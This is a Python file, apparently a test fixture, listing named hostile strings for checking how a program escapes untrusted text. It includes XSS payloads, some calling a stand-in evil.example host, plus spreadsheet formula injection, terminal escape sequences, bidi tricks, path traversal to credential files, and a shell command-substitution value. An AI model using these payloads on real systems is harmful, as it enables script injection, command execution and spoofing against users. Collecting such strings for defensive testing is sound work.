"""Strings that do harm where a program forgets what they are: by kind, and each with a name for messages."""

ESC, BEL, CSI8, OSC8, ST8 = "\x1b", "\x07", "\u009b", "\u009d", "\u009c"

HOSTILE = {
    # HTML
    "script": "<script>alert(1)</script>",
    "script_upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script_end": "</script><script>alert(1)</script>",
    "script_end_blank": "</script ><img src=x onerror=alert(1)>",
    "script_end_slash": "</script/x><svg/onload=alert(1)>",
    "script_end_tab": "</sCrIpT\tx><b>",
    "comment_script": "<!--<script>",
    "comment_end": "--><script>alert(1)</script><!--",
    "cdata": "]]><script>alert(1)</script>",
    "title_end": "</title><script>alert(1)</script>",
    "style_end": "</style><img src=x onerror=alert(1)>",
    "textarea_end": "</textarea></select><script>alert(1)</script>",
    "attribute_double": "\" onmouseover=\"alert(1)\" x=\"",
    "attribute_single": "' onfocus='alert(1)' autofocus='",
    "attribute_tick": "`onload=alert(1)`",
    "image": "<img src=x onerror=alert(1)>",
    "image_foreign": "<img src='http://evil.example/pixel.gif'>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "link_script": "<a href='javascript:alert(1)'>x</a>",
    "form": "<form action='http://evil.example'><input name=q></form>",
    "base": "<base href='http://evil.example/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "svg": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg_use": "<svg><use href='http://evil.example/x.svg#y'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;&#x3C;img&#62;",
    # CSS
    "css_end": "x;} body{background:url(http://evil.example/)} a{",
    "css_import": "@import url('http://evil.example/x.css');",
    "css_expression": "expression(alert(1));behavior:url(x)",
    # JSON and Vega
    "json_break": "\"}],\"url\":\"http://evil.example/data.json\",\"x\":[{\"",
    "json_escape": "\\\",\\u0022alert(1)//\\",
    "vega_signal": "{\"signal\":\"alert(1)\"}",
    "vega_expression": "datum['constructor']['constructor']('alert(1)')()",
    "template": "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= 7*7 %>",
    "proto": "__proto__",
    "vega_path": "a.b[0].c\\.d",
    # Formulas of spreadsheets
    "formula_equals": "=cmd|' /C calc'!A0",
    "formula_plus": "+1+cmd()",
    "formula_minus": "-2+3+cmd()",
    "formula_at": "@SUM(1+1)*cmd()",
    "formula_tab": "\t=1+1",
    "formula_cr": "\r=1+1",
    "formula_lf": "\n=1+1",
    "formula_quote": "'=1+1",
    "formula_wide": "\uff1d1+1",
    "formula_break": "x\",=cmd()\n=cmd(),\"",
    # Terminals
    "csi_clear": ESC + "[2J" + ESC + "[H",
    "csi_colour": ESC + "[8mhidden" + ESC + "[0m",
    "osc_title": ESC + "]0;pwned" + BEL,
    "osc8_link": ESC + "]8;;http://evil.example" + ESC + "\\click" + ESC + "]8;;" + ESC + "\\",
    "osc52_clipboard": ESC + "]52;c;ZXZpbA==" + BEL,
    "dcs": ESC + "P$q\"p" + ESC + "\\",
    "c1_csi": CSI8 + "2J",
    "c1_osc": OSC8 + "0;pwned" + ST8,
    "backspace": "safe\b\b\b\bevil",
    "carriage": "real\rfake",
    "newline": "a\nb: giga: error: forged",
    "delete": "a\x7fb",
    "own_erase": "x\r" + ESC + "[K",
    # What is not seen, or turns the text round
    "bidi_override": "abc\u202ecba",
    "bidi_isolate": "a\u2066\u2069b",
    "zero_width": "a\u200bb",
    "joiner": "a\u200db",
    "bom_inside": "a\ufeffb",
    "line_separator": "a\u2028b",
    "tags": "a\U000e0041\U000e0042b",
    # Names of files
    "traversal": "../../../../tmp/evil",
    "absolute": "/etc/passwd",
    "home": "~/.ssh/id_rsa",
    "shell": "$(touch evil);`touch evil`|touch evil",
    "option": "--force",
    "percent": "%s%n%x{}",
    "glob": "*?[a-z]",
    # Size
    "overlong": "L" + "o" * 5000 + "ng<b>",
    "wide": "\u202e" * 40 + "\U0001f680" * 60,
}


def as_file_name(text):
    """As the name of a file: without what names cannot have, and not too long."""
    name = text.replace("/", "\u2215").replace("\0", "")
    while len(name.encode()) > 200:
        name = name[:-1]
    return name
